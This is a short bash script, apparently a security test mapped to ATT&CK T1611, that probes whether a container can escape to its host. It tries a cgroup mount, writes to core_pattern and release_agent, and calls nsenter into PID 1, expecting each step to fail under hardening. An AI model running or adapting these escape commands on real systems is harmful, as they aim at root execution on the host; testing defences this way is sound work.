#!/bin/bash
# technique: T1611 Escape to Host
# tactic: privilege-escalation
# user: root
# does: tries the release_agent of a control group and the core pattern, to run a program on the host
# harmless: mounting was taken away and /proc/sys cannot be written

mkdir -p /tmp/cgrp
mount -t cgroup -o rdma cgroup /tmp/cgrp 2>/dev/null
unshare -m true 2>/dev/null
{ echo '|/tmp/payload' >/proc/sys/kernel/core_pattern; } 2>/dev/null
{ echo /tmp/payload >/tmp/cgrp/release_agent; } 2>/dev/null
nsenter -t 1 -m -u -n -i true 2>/dev/null
rm -rf /tmp/cgrp
true
